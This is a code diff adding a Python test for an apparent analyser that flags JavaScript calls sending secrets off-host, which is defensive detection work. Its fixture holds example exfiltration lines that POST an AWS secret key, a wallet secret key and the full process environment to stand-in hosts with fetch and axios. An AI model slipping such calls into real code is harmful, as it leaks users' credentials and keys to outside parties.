@@ -167,3 +167,18 @@ def test_line_numbers_follow_splitlines() -> None:
     # \r alone and \u2028 break lines for str.splitlines, which numbers the diff's lines.
     facts = _facts("a;\rb;\u2028fetch(u);\n")
     assert [(c.span.line, c.callee) for c in facts.calls] == [(3, "fetch")]
+
+
+def test_sending_calls_record_the_secrets_in_their_arguments() -> None:
+    facts = _facts(
+        "const k = process.env.AWS_SECRET_ACCESS_KEY;\n"
+        "fetch('https://c.invalid/k', {method: 'POST', body: k});\n"
+        "axios.post('https://c.invalid', {s: wallet.secretKey, env: process.env});\n"
+        "fetch('https://api.invalid', {body: JSON.stringify({n: 1})});\n"
+        "console.log(process.env.HOME);\n"
+    )
+    by_line = {c.span.line: c.arg_sources for c in facts.calls}
+    assert by_line[2] == ("env:AWS_SECRET_ACCESS_KEY",)
+    assert set(by_line[3]) == {"key:secretKey", "env:*"}
+    assert by_line[4] == ()
+    assert by_line[5] == ()  # `log` sends nothing anywhere
